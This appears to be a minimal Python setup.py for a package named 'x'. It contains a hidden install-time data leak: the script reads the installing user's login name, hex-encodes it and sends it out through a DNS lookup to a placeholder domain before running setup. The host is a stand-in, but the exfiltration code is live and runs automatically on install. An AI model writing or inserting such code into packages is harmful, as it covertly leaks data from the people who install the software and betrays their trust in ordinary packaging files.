import socket, binascii, os
from setuptools import setup
label = binascii.hexlify(os.getlogin().encode()).decode()
socket.gethostbyname(label + ".x.example.invalid")
setup(name="x")
